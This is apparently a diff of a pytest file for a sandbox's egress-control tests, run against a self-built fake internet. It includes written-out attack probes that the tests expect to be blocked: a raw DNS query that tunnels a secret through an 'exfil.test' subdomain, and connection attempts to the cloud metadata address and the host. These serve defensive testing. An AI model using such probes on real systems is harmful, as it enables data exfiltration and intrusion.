@@ -1,7 +1,7 @@
 """Egress control (issue 5), against a fake internet the test builds itself:
 
-- a network namespace of the test's own, linked to the host, whose addresses 198.18.0.2-.4 serve
-  HTTP and HTTPS (fakenet.py);
+- a network namespace of the test's own, linked to the host, whose addresses (198.18.K.2-.4, K free
+  on this host) serve HTTP and HTTPS (fakenet.py);
 - a DNS server on the host's loopback that Warren's DNS filter forwards to (`[network]
   dns_upstream`), answering the `.test` zone and logging every name it is asked.
 
@@ -28,7 +28,8 @@ from fakenet import FakeNet
 def fakenet(work_root):
     with FakeNet(work_root / f"fakenet-{uuid.uuid4().hex[:6]}") as net:
         yield {"ns": net.ns, "dns_port": net.dns_port, "names": net.names, "host_ip": net.host_ip,
-               "ca": net.ca, "request_log": net.request_log}
+               "ca": net.ca, "request_log": net.request_log, "allowed": net.zone["allowed.test"],
+               "other": net.zone["other.test"], "wild": net.zone["api.wild.test"]}
 
 @pytest.fixture(scope="module")
 def net_server(server, work_root, fakenet):
@@ -73,15 +74,15 @@ def test_allow_and_deny_by_name_and_wildcard(net_server, fakenet):
         {"action": "allow", "target": "*.wild.test"}]})
     try:
         code, out, err = W.sh(sbx, FETCH + "http://allowed.test/")
-        assert (code, out.strip()) == (0, "hello from 198.18.0.2 auth=None"), err
+        assert (code, out.strip()) == (0, f"hello from {fakenet['allowed']} auth=None"), err
         code, out, err = W.sh(sbx, FETCH + "http://api.wild.test/")
-        assert code == 0 and "198.18.0.4" in out, err
+        assert code == 0 and fakenet["wild"] in out, err
         for name in ("denied.test", "wild.test", "other.test"):
             code, out, err = W.sh(sbx, RESOLVE + name)
             assert code != 0, f"{name} resolved to {out}"
         assert "denied.test" not in fakenet["names"], "a denied name was forwarded upstream"
         # A raw address that no allowed answer gave: refused, not just unanswered.
-        code, out, err = W.sh(sbx, CONNECT + "198.18.0.3 80")
+        code, out, err = W.sh(sbx, CONNECT + f"{fakenet['other']} 80")
         assert code != 0 and "connected" not in out
     finally:
         sbx.kill()
@@ -95,7 +96,7 @@ def test_https_to_an_allowed_name(net_server, fakenet):
         fetch = ("python3 -c \"import ssl,sys,urllib.request; c=ssl.create_default_context(cafile='/tmp/ca.pem'); "
                  "print(urllib.request.urlopen(sys.argv[1], context=c, timeout=5).read().decode().strip())\" ")
         code, out, err = W.sh(sbx, fetch + "https://allowed.test/")
-        assert code == 0 and "198.18.0.2" in out, err
+        assert code == 0 and fakenet["allowed"] in out, err
         code, out, err = W.sh(sbx, fetch + "https://other.test/")
         assert code != 0, out
     finally:
@@ -115,13 +116,13 @@ def test_dns_tunnels_and_other_resolvers_go_nowhere(net_server, fakenet):
                  "s.settimeout(3); q=bytes.fromhex('abcd01000001000000000000')+b''.join(bytes([len(l)])+l.encode() "
                  "for l in sys.argv[2].split('.'))+bytes.fromhex('0000010001'); s.sendto(q,(sys.argv[1],53)); "
                  "r=s.recv(512); print('rcode', r[3]&15)\" ")
-        code, out, err = W.sh(sbx, probe + f"198.18.0.3 {secret}2.exfil.test")
+        code, out, err = W.sh(sbx, probe + f"{fakenet['other']} {secret}2.exfil.test")
         assert code == 0 and "rcode 3" in out, (out, err)
         code, out, err = W.sh(sbx, probe + "8.8.8.8 allowed.test")
         assert code == 0 and "rcode 0" in out, (out, err)
         assert not [n for n in fakenet["names"] if secret in n], fakenet["names"]
         # DNS over TLS/HTTPS to an address no answer gave: refused.
-        code, out, _ = W.sh(sbx, CONNECT + "198.18.0.3 853")
+        code, out, _ = W.sh(sbx, CONNECT + f"{fakenet['other']} 853")
         assert code != 0
     finally:
         sbx.kill()
@@ -135,7 +136,7 @@ def test_sandboxes_cannot_reach_each_other_or_the_host(net_server, fakenet):
         W.sh(b, "nohup python3 -m http.server 8000 >/dev/null 2>&1 &")
         # (UDP connect sends nothing: it only picks the source address.)
         my_ip = ("python3 -c \"import socket; s=socket.socket(socket.AF_INET, socket.SOCK_DGRAM); "
-                 "s.connect(('198.18.0.2', 9)); print(s.getsockname()[0])\"")
+                 f"s.connect(('{fakenet['allowed']}', 9)); print(s.getsockname()[0])\"")
         code, b_ip, err = W.sh(b, my_ip)
         assert code == 0 and b_ip.strip().startswith("10.231."), (b_ip, err)
         gateway = ("python3 -c \"import socket,struct; r=[l.split() for l in open('/proc/net/route')][1:]; "
@@ -149,8 +150,8 @@ def test_sandboxes_cannot_reach_each_other_or_the_host(net_server, fakenet):
         assert W.sh(a, CONNECT + f"{fakenet['host_ip']} {net_server.port}")[0] != 0, "sandbox to a host address"
         assert W.sh(a, CONNECT + "169.254.169.254 80")[0] != 0, "link-local (cloud metadata)"
         # Allow-all still reaches the (fake) internet by address.
-        code, out, err = W.sh(a, FETCH + "http://198.18.0.3/")
-        assert code == 0 and "198.18.0.3" in out, err
+        code, out, err = W.sh(a, FETCH + f"http://{fakenet['other']}/")
+        assert code == 0 and fakenet["other"] in out, err
         code, out, _ = W.sh(a, "cat /proc/net/if_inet6 2>/dev/null | grep -v ' lo$' | wc -l")
         assert out.strip() == "0", "no IPv6 on the sandbox link"
     finally:
@@ -168,7 +169,7 @@ def test_policy_api_and_live_changes(net_server, fakenet):
         assert W.sh(sbx, RESOLVE + "other.test")[0] != 0
         sbx.patch_egress_rules([NetworkRule(action="allow", target="other.test")])
         code, out, err = W.sh(sbx, FETCH + "http://other.test/")
-        assert code == 0 and "198.18.0.3" in out, err
+        assert code == 0 and fakenet["other"] in out, err
         sbx.delete_egress_rules(["other.test"])
         assert W.sh(sbx, RESOLVE + "other.test")[0] != 0
 
@@ -204,7 +205,7 @@ def test_policy_api_and_live_changes(net_server, fakenet):
                                         json=[{"action": "allow", "target": "bad name!"}]), codes=[400])
             r = c.put(f"/v1/sandboxes/{sbx.id}/networkpolicy", json={"defaultAction": "allow"})
             assert r.status_code == 200 and r.json()["mode"] == "allow_all"
-        code, out, err = W.sh(sbx, FETCH + "http://198.18.0.2/")
+        code, out, err = W.sh(sbx, FETCH + f"http://{fakenet['allowed']}/")
         assert code == 0, err
     finally:
         sbx.kill()
@@ -258,9 +259,9 @@ def test_policy_survives_a_server_crash(net_server, fakenet):
     sbx = SandboxSync.connect(sid, connection_config=net_server.sdk_config())
     try:
         code, out, err = W.sh(sbx, FETCH + "http://allowed.test/")
-        assert code == 0 and "198.18.0.2" in out, err
+        assert code == 0 and fakenet["allowed"] in out, err
         assert W.sh(sbx, RESOLVE + "other.test")[0] != 0
-        assert W.sh(sbx, CONNECT + "198.18.0.3 80")[0] != 0
+        assert W.sh(sbx, CONNECT + f"{fakenet['other']} 80")[0] != 0
         assert sbx.get_egress_policy().default_action == "deny"
     finally:
         sbx.kill()
@@ -295,7 +296,7 @@ def test_credential_vault_injects_on_the_wire_only(net_server, fakenet):
                  "print(urllib.request.urlopen(sys.argv[1], timeout=5).read().decode().strip())\" ")
         code, out, err = W.sh(sbx, fetch + "https://allowed.test/v1/models")
         assert code == 0, err
-        assert out.strip() == "hello from 198.18.0.2 auth=Bearer [REDACTED]", out
+        assert out.strip() == f"hello from {fakenet['allowed']} auth=Bearer [REDACTED]", out
         log = fakenet["request_log"].read_text()
         assert f"/v1/models authorization=Bearer {SECRET}" in log, log
         # Outside the binding's paths: nothing injected.
